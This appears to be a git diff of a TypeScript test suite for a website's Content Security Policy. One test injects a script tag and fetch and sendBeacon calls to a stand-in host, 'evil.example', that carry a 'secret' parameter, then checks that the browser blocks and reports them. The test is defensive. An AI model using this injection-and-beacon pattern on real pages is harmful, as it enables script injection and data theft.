@@ -1,6 +1,8 @@
 import { once } from "node:events";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
+import type { Tab } from "@playbook/world";
 import { goTo, openStand, releaseOf, type Stand, visit } from "./stand.ts";
 
 let stand: Stand;
@@ -28,6 +30,12 @@ async function released(parameters: Record<string, string> = {}) {
   return site;
 }
 
+/** Waits until a developer would see all of that in red. */
+async function red(tab: Tab, ...parts: string[]): Promise<void> {
+  const isRed = (part: string) => tab.complaints().some((one) => one.includes(part));
+  while (!parts.every(isRed)) await sleep(20);
+}
+
 test("a page that keeps to itself violates nothing", async () => {
   const site = await released();
   await using tab = await visit(stand.browser, site.address);
@@ -50,23 +58,20 @@ test("what somebody smuggles into a page neither runs nor tells anybody", async 
     script.textContent = "document.title = 'taken'";
     document.body.append(script);
     const other = document.createElement("script");
-    other.src = "https://other.example/evil.js";
+    other.src = "https://evil.example/evil.js";
     document.body.append(other);
-    await fetch("https://other.example/?secret=1", { mode: "no-cors" }).catch(() => {});
-    navigator.sendBeacon("https://other.example/?secret=2");
-    await new Promise((resolve) => setTimeout(resolve));
+    await fetch("https://evil.example/?secret=1", { mode: "no-cors" }).catch(() => {});
+    navigator.sendBeacon("https://evil.example/?secret=2");
   })()`);
 
-  expect(await tab.page.title()).toBe("Nexus");
-  const complaints = tab.complaints().join("\n");
-  for (const violation of [
+  await red(
+    tab,
     "violation of script-src-elem: inline",
-    "violation of script-src-elem: https://other.example/evil.js",
-    "violation of connect-src: https://other.example/",
-  ]) {
-    expect(complaints).toContain(violation);
-  }
-  expect(stand.browser.reached()).not.toContain("other.example:443");
+    "violation of script-src-elem: https://evil.example/evil.js",
+    "violation of connect-src: https://evil.example/",
+  );
+  expect(await tab.page.title()).toBe("Nexus");
+  expect(stand.browser.reached()).not.toContain("evil.example:443");
 });
 
 test.each([
@@ -81,8 +86,9 @@ test.each([
 
   const [, frame] = tab.page.frames();
   if (shown) await frame?.locator("[data-version]").waitFor();
+  else await red(tab, "frame-ancestors");
   expect(frame?.url().startsWith(site.address)).toBe(shown);
-  expect(tab.complaints().join("\n").includes("frame-ancestors")).toBe(!shown);
+  if (shown) expect(tab.complaints()).toEqual([]);
 });
 
 test("whoever was there once never asks by http again", async () => {
